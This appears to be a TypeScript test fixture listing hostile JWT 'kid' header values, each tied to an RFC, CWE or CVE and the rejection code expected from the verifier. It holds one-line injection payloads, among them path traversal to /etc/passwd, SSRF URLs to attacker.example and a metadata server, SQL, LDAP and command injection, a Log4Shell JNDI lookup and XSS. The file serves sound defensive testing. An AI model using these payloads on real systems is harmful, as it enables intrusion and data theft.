import { createHash } from 'node:crypto';
import type { HostileInput } from '../hostile-input.ts';
import type { Kit } from '../kit.ts';

type Row = readonly [name: string, source: string, kid: (good: string, kit: Kit) => unknown];

/** No text with something in it. */
const notText: readonly Row[] = [
  ['left out', 'RFC 7515 §4.1.4', () => undefined],
  ['null', 'RFC 7515 §4.1.4', () => null],
  ['empty', 'RFC 7515 §4.1.4', () => ''],
  ['zero', 'RFC 7515 §4.1.4', () => 0],
  ['a number', 'RFC 7515 §4.1.4', () => 42],
  ['true', 'RFC 7515 §4.1.4', () => true],
  ['a list with the right one', 'RFC 7515 §4.1.4', (good) => [good]],
  ['an empty list', 'RFC 7515 §4.1.4', () => []],
  ['an object with the right one', 'RFC 7515 §4.1.4', (good) => ({ kid: good })],
  ['an object that prints as the right one', 'CWE-843', (good) => ({ toString: good })],
];

/** Text that is not the id of any key. Signed with Google's own key, so that nothing else is wrong. */
const notKnown: readonly Row[] = [
  ['in upper case', 'RFC 7515 §4.1.4', (good) => good.toUpperCase()],
  ['with a space behind', 'RFC 7515 §4.1.4', (good) => `${good} `],
  ['with a space in front', 'RFC 7515 §4.1.4', (good) => ` ${good}`],
  ['with a line feed behind', 'RFC 7515 §4.1.4', (good) => `${good}\n`],
  ['with a NUL behind', 'CWE-158', (good) => `${good}\0`],
  ['with a NUL and more behind', 'CWE-158', (good) => `${good}\0.pem`],
  ['cut by a character', 'RFC 7515 §4.1.4', (good) => good.slice(0, -1)],
  ['with a character too many', 'RFC 7515 §4.1.4', (good) => `${good}0`],
  ['written twice', 'RFC 7515 §4.1.4', (good) => `${good},${good}`],
  ['in quotes', 'RFC 7515 §4.1.4', (good) => `"${good}"`],
  ['in base64url', 'RFC 7515 §4.1.4', (good) => Buffer.from(good).toString('base64url')],
  ['percent-encoded', 'RFC 3986 §2.1', (good) => `%39${good.slice(1)}`],
  ['with a full-width digit', 'Unicode TR 36', (good) => `\uff19${good.slice(1)}`],
  ['with a Cyrillic letter for a Latin one', 'Unicode TR 36', (good) => good.replace('a', '\u0430')],
  ['with a combining accent', 'Unicode TR 15', (good) => `${good}\u0301`],
  ['with a zero-width space', 'Unicode TR 36', (good) => `${good}\u200b`],
  ['with a byte order mark', 'Unicode TR 36', (good) => `\ufeff${good}`],
  ['that of no key', 'RFC 7515 §4.1.4', () => createHash('sha1').update('no key').digest('hex')],
  ['a path upwards', 'CWE-22', () => '../../../../../../dev/null'],
  ['a path upwards, encoded', 'CWE-22', () => '..%2f..%2f..%2fetc%2fpasswd'],
  ['a path of Windows', 'CWE-22', () => 'C:\\Windows\\System32\\drivers\\etc\\hosts'],
  ['a file URL', 'CWE-22', () => 'file:///proc/sys/kernel/randomize_va_space'],
  ["an attacker's URL", 'CWE-918', () => 'https://attacker.example/jwks.json'],
  ['the URL of a metadata server', 'CWE-918', () => 'http://169.254.169.254/computeMetadata/v1/'],
  ['SQL that is always true', 'CWE-89', () => "x' OR '1'='1"],
  ['SQL that brings a key of its own', 'CWE-89', () => "x' UNION SELECT 'attacker-key';--"],
  ['an LDAP wildcard', 'CWE-90', () => '*)(kid=*'],
  ['a query of MongoDB', 'CWE-943', () => '{"$ne":null}'],
  ['a command', 'CWE-78', () => 'x|/usr/bin/id;$(id)`id`'],
  ['a template', 'CWE-1336', () => '{{7*7}}<%= 7*7 %>'],
  ['a lookup of a logger', 'CVE-2021-44228', () => `\${jndi:ldap://attacker.example/a}`],
  ['a format string', 'CWE-134', () => '%s%s%s%s%n%x'],
  ['HTML', 'CWE-79', () => '<script>alert(document.domain)</script>'],
  ['a header of its own', 'CWE-113', () => 'x\r\nSet-Cookie: admin=true\r\n\r\n'],
  ['a line of a log', 'CWE-117', () => 'x\n{"type":"token_accepted"}'],
  ['an escape sequence of a terminal', 'CWE-150', () => '\u001b[2J\u001b[31maccepted\u001b[0m'],
  ['text from right to left', 'Unicode TR 36', () => '\u202edetpecca'],
  ['a lone surrogate', 'RFC 8259 §8.2', () => '\ud800'],
  ['an emoji', 'RFC 7515 §4.1.4', () => '\u{1f511}\u{1f511}'],
  ['one space', 'RFC 7515 §4.1.4', () => ' '],
  ['ten thousand characters', 'CWE-400', () => 'k'.repeat(10_000)],
  ['a number as text', 'RFC 7515 §4.1.4', () => '0'],
  ...['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString', 'keys', 'length', 'get'].map(
    (name): Row => [`the name ${name}`, 'CWE-1321', () => name],
  ),
  ...['undefined', 'null', 'NaN', '[object Object]', 'default', '*'].map(
    (name): Row => [`the word ${name}`, 'CWE-20', () => name],
  ),
];

function input([name, source, kid]: Row, code: HostileInput['code']): HostileInput {
  return { name: `kid ${name}`, source, code, token: (kit) => kit.token({}, { kid: kid(kit.keys.google.kid, kit) }) };
}

/** The header written by hand: the good one with this text in place of its `kid`. */
function written(name: string, source: string, code: HostileInput['code'], members: (kid: string) => string) {
  return {
    name,
    source,
    code,
    token: (kit: Kit) => kit.signed(`{"alg":"RS256","typ":"JWT",${members(kit.keys.google.kid)}}`, kit.claims),
  };
}

/** Tokens whose `kid` is no text, or names no key. */
export const kid: readonly HostileInput[] = [
  ...notText.map((row) => input(row, 'token_malformed')),
  ...notKnown.map((row) => input(row, 'key_unknown')),
  written('kid in __proto__ only', 'CWE-1321', 'token_malformed', (good) => `"__proto__":{"kid":"${good}"}`),
  written('kid in upper case only', 'RFC 7515 §4', 'token_malformed', (good) => `"KID":"${good}"`),
  written('kid twice, the last one empty', 'RFC 7515 §4', 'token_malformed', (good) => `"kid":"${good}","kid":""`),
  written('kid twice, the last one unknown', 'RFC 7515 §4', 'key_unknown', (good) => `"kid":"${good}","kid":"none"`),
];
